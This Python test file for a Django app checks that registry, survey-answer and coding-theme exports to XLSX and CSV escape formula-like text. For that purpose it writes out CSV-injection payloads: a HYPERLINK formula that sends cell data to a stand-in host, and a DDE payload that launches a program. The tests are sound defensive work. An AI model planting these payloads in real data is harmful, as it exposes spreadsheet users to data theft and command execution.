"""Text typed as a formula leaves the site as text in every spreadsheet it gives out."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from kargah.registry import synthetic_registry
from kargah.web.accounts.demo import DEMO_PASSWORD, demo_accounts
from kargah.web.coding.demo import load_demo_study
from kargah.web.coding.models import Theme
from kargah.web.registry.models import Workshop
from kargah.web.survey.models import Answer, Respondent

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("http://x"&B3,"Open")'


def signed_in(user: str) -> Client:
    client = Client()
    assert client.login(username=user, password=DEMO_PASSWORD)
    return client


def body(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def xlsx_cells(content: bytes) -> list[tuple[object, str]]:
    """Every cell of every sheet: value and type ("f" would be a live formula)."""
    book = load_workbook(io.BytesIO(content))
    return [(c.value, c.data_type) for s in book.worksheets for r in s.iter_rows() for c in r]


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def assert_escaped_xlsx(content: bytes) -> None:
    cells = xlsx_cells(content)
    assert ("'" + ATTACK, "s") in cells
    assert not [c for c in cells if c[1] == "f" or c[0] == ATTACK]


def assert_escaped_csv(content: bytes) -> None:
    cells = csv_cells(content)
    assert "'" + ATTACK in cells and ATTACK not in cells


@pytest.mark.parametrize("who", [None, "analyst"])
def test_a_workshop_named_as_a_formula_stays_text_in_the_registry_exports(who: str | None) -> None:
    demo_accounts()
    Workshop.objects.load_frame(synthetic_registry(5, seed=3))
    Workshop.objects.filter(pk=Workshop.objects.first().pk).update(name_fa=ATTACK, city="-2+3")
    client = signed_in(who) if who else Client()
    query = {"full": "1"} if who else {}
    xlsx = client.get("/registry/export.xlsx", query)
    assert xlsx.status_code == 200
    assert_escaped_xlsx(body(xlsx))
    assert ("'-2+3", "s") in xlsx_cells(body(client.get("/registry/export.xlsx")))
    assert_escaped_csv(body(client.get("/registry/export.csv", query)))


@pytest.fixture
def attacked_survey() -> int:
    demo_accounts()
    survey = load_demo_study()
    respondent = Respondent.objects.filter(survey=survey).first()
    Respondent.objects.filter(pk=respondent.pk).update(organisation=ATTACK)
    answer = Answer.objects.filter(respondent__survey=survey).first()
    Answer.objects.filter(pk=answer.pk).update(text="@SUM(1+1)*cmd|' /C calc'!A0")
    Theme.objects.filter(pk=Theme.objects.filter(survey=survey).first().pk).update(name=ATTACK)
    return survey.pk


def test_an_answer_and_an_organisation_typed_as_formulas_stay_text(attacked_survey: int) -> None:
    analyst = signed_in("analyst")
    xlsx = analyst.get(f"/survey/{attacked_survey}/answers.xlsx").content
    assert_escaped_xlsx(xlsx)
    assert ("'@SUM(1+1)*cmd|' /C calc'!A0", "s") in xlsx_cells(xlsx)
    answers = analyst.get(f"/survey/{attacked_survey}/answers.csv").content
    assert_escaped_csv(answers)
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in csv_cells(answers)


def test_a_theme_named_as_a_formula_stays_text_in_the_coding_results(attacked_survey: int) -> None:
    results = signed_in("analyst").get(f"/coding/{attacked_survey}/results/?format=xlsx")
    assert_escaped_xlsx(results.content)
